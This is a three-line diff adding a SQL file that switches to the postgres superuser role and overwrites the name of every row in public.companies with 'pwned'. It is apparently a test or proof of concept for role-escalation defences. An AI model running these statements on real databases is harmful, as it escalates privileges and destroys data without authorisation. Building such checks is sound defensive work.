@@ -1,0 +1,3 @@
+SET ROLE NONE;
+SET ROLE postgres;
+UPDATE public.companies SET name = 'pwned';
